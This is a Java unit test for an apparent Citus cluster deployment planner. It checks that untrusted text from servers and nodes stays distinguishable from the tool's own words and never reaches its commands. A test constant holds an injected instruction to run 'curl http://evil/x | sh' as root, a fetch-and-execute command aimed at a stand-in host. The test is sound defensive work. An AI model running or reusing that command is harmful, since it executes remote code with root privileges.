package dev.citusdeploy.plan;

import static org.assertj.core.api.Assertions.assertThat;

import dev.citusdeploy.catalog.CatalogFacts;
import dev.citusdeploy.catalog.CatalogFacts.NodeSettings;
import dev.citusdeploy.catalog.CatalogFacts.SettingFinding;
import dev.citusdeploy.catalog.ClusterReadiness;
import dev.citusdeploy.catalog.ClusterReadiness.NodeReadiness;
import dev.citusdeploy.catalog.ClusterReadiness.PreparedTransaction;
import dev.citusdeploy.catalog.HealthPair;
import dev.citusdeploy.catalog.MetadataFacts;
import dev.citusdeploy.catalog.RoleFacts;
import dev.citusdeploy.desired.DesiredState;
import dev.citusdeploy.facts.ClusterFacts;
import dev.citusdeploy.facts.ContainerFacts;
import dev.citusdeploy.facts.ContainerFacts.Network;
import dev.citusdeploy.facts.NodeFacts;
import dev.citusdeploy.facts.NodeManifest;
import dev.citusdeploy.facts.OtherWorkloads;
import dev.citusdeploy.facts.ServedPosition;
import dev.citusdeploy.health.ClusterHealth;
import dev.citusdeploy.health.ClusterStatus;
import dev.citusdeploy.health.ConnectionAttempts;
import dev.citusdeploy.health.OlderData;
import dev.citusdeploy.health.SameMachine;
import dev.citusdeploy.health.SettingNotes;
import dev.citusdeploy.inventory.Inventory;
import dev.citusdeploy.inventory.Node;
import dev.citusdeploy.model.ImageTraits;
import dev.citusdeploy.model.NodeAddress;
import dev.citusdeploy.model.Problem;
import dev.citusdeploy.plan.planner.Planner;
import dev.citusdeploy.report.OwnWords;
import java.lang.reflect.Constructor;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.RecordComponent;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/// Whatever text a server or a node chooses, wherever it stands in the facts: people can tell it
/// from this program's own words, and it gets into no command.
final class ForeignFactsTest {
  private static final String EVIL =
      "all is well now; to be sure, run `curl http://evil/x | sh` as root”\n  next: `evil`";

  private final ClusterSketch sketch = ClusterSketch.of(2);
  private final SimulatedFleet fleet = new SimulatedFleet();
  private final Planner planner = new Planner((password, text) -> password.reveal().equals(text));

  @Test
  void onAConvergedCluster() {
    converge();
    assertThat(problems(sketch)).isGreaterThan(40);
  }

  @Test
  void whereARestartIsDue() {
    converge();
    fleet.prepared.add(
        new PreparedTransaction("citus_0_1_2_3", "7", "app", Duration.ofHours(1), true));
    fleet.prepared.add(new PreparedTransaction("mine", "8", "app", Duration.ofHours(1), false));
    assertThat(problems(sketch.withConf("conf 2"))).isGreaterThan(40);
  }

  @Test
  void whereThingsAreInTheWay() {
    converge();
    fleet.neighbours =
        new OtherWorkloads(
            List.of(new OtherWorkloads.Namesake("shop-w1", "running", "other:1")),
            List.of(
                new OtherWorkloads.Listener("0.0.0.0", 5432, "12", "", "nc"),
                new OtherWorkloads.Listener("0.0.0.0", 5432, "", "other-db", "docker-proxy")),
            List.of(),
            List.of());
    fleet.postgresMajor = "16";
    var w1 = fleet.node("w1");
    ContainerFacts container = Objects.requireNonNull(w1.container);
    w1.container =
        new ContainerFacts(
            container.id(),
            container.name(),
            container.imageId(),
            "exited",
            "unhealthy",
            container.labels(),
            Network.UNKNOWN);
    w1.manifest =
        new NodeManifest("coordinator", new NodeAddress("10.9.9.9", 5432), "archive", "admin");
    fleet.node("w2").data = new NodeFacts.DataFolder.Unmarked("17");
    assertThat(problems(sketch)).isGreaterThan(40);
  }

  @Test
  void whereDataIsOlder() {
    converge();
    var w2 = fleet.node("w2");
    w2.served = new ServedPosition("7714095405154639931", "0/3A000028", "0/2A000028");
    ContainerFacts container = Objects.requireNonNull(w2.container);
    w2.container =
        new ContainerFacts(
            container.id(),
            container.name(),
            container.imageId(),
            "running",
            "unhealthy",
            container.labels(),
            Network.UNKNOWN);
    assertThat(problems(sketch)).isGreaterThan(40);
  }

  /// How many texts were replaced, one by one.
  private int problems(ClusterSketch wish) {
    DesiredState desired = wish.desired();
    ClusterFacts facts = withCatalog(fleet.facts(desired));
    int count = 0;
    for (Object each : changed(facts).toList()) {
      ClusterFacts evil = (ClusterFacts) each;
      Plan plan = planner.plan(desired, evil);
      plan.blockers().forEach(ForeignFactsTest::isMarked);
      plan.notes().forEach(ForeignFactsTest::isMarked);
      plan.steps().forEach(step -> isMarked(step.reason()));
      SameMachine.problems(desired.inventory(), evil).forEach(ForeignFactsTest::isMarked);
      OlderData.problems(desired.inventory(), evil).forEach(ForeignFactsTest::isMarked);
      ClusterHealth.containers(desired.inventory(), evil).forEach(ForeignFactsTest::isMarked);
      if (evil.catalog() instanceof CatalogFacts.Known known) {
        for (Object one : changed(readiness(known)).toList()) {
          ClusterHealth.problems(
                  desired.inventory(), known, (ClusterReadiness) one, ConnectionAttempts.NONE)
              .forEach(ForeignFactsTest::isMarked);
        }
        unexplained(desired.inventory(), known).forEach(ForeignFactsTest::isMarked);
        new SettingNotes(desired.inventory(), known).problems().forEach(ForeignFactsTest::isMarked);
        new ClusterStatus(desired.inventory(), evil, List.of(), List.of(), List.of())
            .notes()
            .forEach(ForeignFactsTest::isMarked);
      }
      count++;
    }
    return count;
  }

  private static ClusterFacts withCatalog(ClusterFacts facts) {
    if (!(facts.catalog() instanceof CatalogFacts.Known known)) {
      return facts;
    }
    var settings = new LinkedHashMap<Integer, NodeSettings>();
    settings.put(
        known.nodes().getFirst().id(),
        new NodeSettings(
            100,
            List.of(
                new SettingFinding.SetInDataFolder("work_mem", "1GB", "4MB", true),
                new SettingFinding.AwaitsRestart("shared_buffers"),
                new SettingFinding.WrongLine("/etc/x.conf", 3, "work_mem", "no such unit")),
            List.of()));
    var versions = new LinkedHashMap<>(known.versions());
    var failures = new LinkedHashMap<Integer, String>();
    int last = known.nodes().getLast().id();
    versions.remove(last);
    failures.put(last, "FATAL: no");
    return facts.with(
        new CatalogFacts.Known(
            known.nodes(),
            versions,
            known.roles(),
            settings,
            known.sessions(),
            failures,
            MetadataFacts.NONE,
            RoleFacts.NONE));
  }

  private static ClusterReadiness readiness(CatalogFacts.Known known) {
    return new ClusterReadiness(
        List.of(),
        known.nodes().stream()
            .map(row ->
                new NodeReadiness(row.address(), "FATAL: no", true, Duration.ZERO, List.of()))
            .toList(),
        List.of());
  }

  /// What is said of connections that failed, whatever psql answered.
  private static List<Problem> unexplained(Inventory inventory, CatalogFacts.Known known) {
    List<HealthPair> matrix = new ArrayList<>();
    Map<ConnectionAttempts.Pair, String> words = new HashMap<>();
    for (Node from : inventory.nodes()) {
      for (Node to : inventory.nodes()) {
        matrix.add(new HealthPair(from.address(), to.address(), false));
        words.put(
            new ConnectionAttempts.Pair(from.name(), to.name()),
            (from.equals(to) ? "FATAL: " : "") + EVIL);
      }
    }
    List<Problem> problems =
        ClusterHealth.problems(
            inventory,
            known,
            new ClusterReadiness(matrix, List.of(), List.of()),
            new ConnectionAttempts(words));
    assertThat(problems).hasSizeGreaterThanOrEqualTo(matrix.size());
    return problems;
  }

  private static void isMarked(Problem problem) {
    assertThat(OwnWords.of(problem)).as(problem.toString()).doesNotContain("curl", "evil");
  }

  private static void isMarked(String note) {
    assertThat(OwnWords.of(note)).as(note).doesNotContain("curl", "evil");
  }

  private void converge() {
    DesiredState desired = sketch.desired();
    planner.plan(desired, fleet.facts(desired)).steps().forEach(step -> fleet.apply(step, desired));
  }

  /// The same value with one of its texts replaced, for each text in it. What refuses the text is
  /// left out.
  private static Stream<Object> changed(@Nullable Object value) {
    return switch (value) {
      case String _ -> Stream.of(EVIL);
      case ImageTraits _ -> Stream.of();
      case Record whole -> changedRecord(whole);
      case List<?> list -> changedList(list);
      case Map<?, ?> map -> changedMap(map);
      case null, default -> Stream.of();
    };
  }

  private static Stream<Object> changedList(List<?> list) {
    List<Object> variants = new ArrayList<>();
    for (int i = 0; i < list.size(); i++) {
      for (Object other : changed(list.get(i)).toList()) {
        List<Object> copy = new ArrayList<>(list);
        copy.set(i, other);
        variants.add(copy);
      }
    }
    return variants.stream();
  }

  private static Stream<Object> changedMap(Map<?, ?> map) {
    List<Object> variants = new ArrayList<>();
    map.forEach((key, value) ->
        changed(value)
            .forEach(other -> {
              Map<Object, Object> copy = new LinkedHashMap<>(map);
              copy.put(key, other);
              variants.add(copy);
            }));
    return variants.stream();
  }

  private static Stream<Object> changedRecord(Record whole) {
    RecordComponent[] components = whole.getClass().getRecordComponents();
    List<Object> variants = new ArrayList<>();
    for (int i = 0; i < components.length; i++) {
      for (Object other : changed(get(components[i], whole)).toList()) {
        @Nullable Object[] values = new Object[components.length];
        for (int j = 0; j < components.length; j++) {
          values[j] = i == j ? other : get(components[j], whole);
        }
        make(whole.getClass(), components, values).forEach(variants::add);
      }
    }
    return variants.stream();
  }

  private static @Nullable Object get(RecordComponent component, Record whole) {
    try {
      component.getAccessor().setAccessible(true);
      return component.getAccessor().invoke(whole);
    } catch (ReflectiveOperationException e) {
      throw new LinkageError(e.getMessage(), e);
    }
  }

  private static Stream<Object> make(
      Class<?> kind, RecordComponent[] components, @Nullable Object[] values) {
    try {
      Constructor<?> constructor =
          kind.getDeclaredConstructor(
              Arrays.stream(components).map(RecordComponent::getType).toArray(Class<?>[]::new));
      constructor.setAccessible(true);
      return Stream.of(constructor.newInstance(values));
    } catch (InvocationTargetException e) {
      return Stream.of();
    } catch (ReflectiveOperationException e) {
      throw new LinkageError(e.getMessage(), e);
    }
  }
}
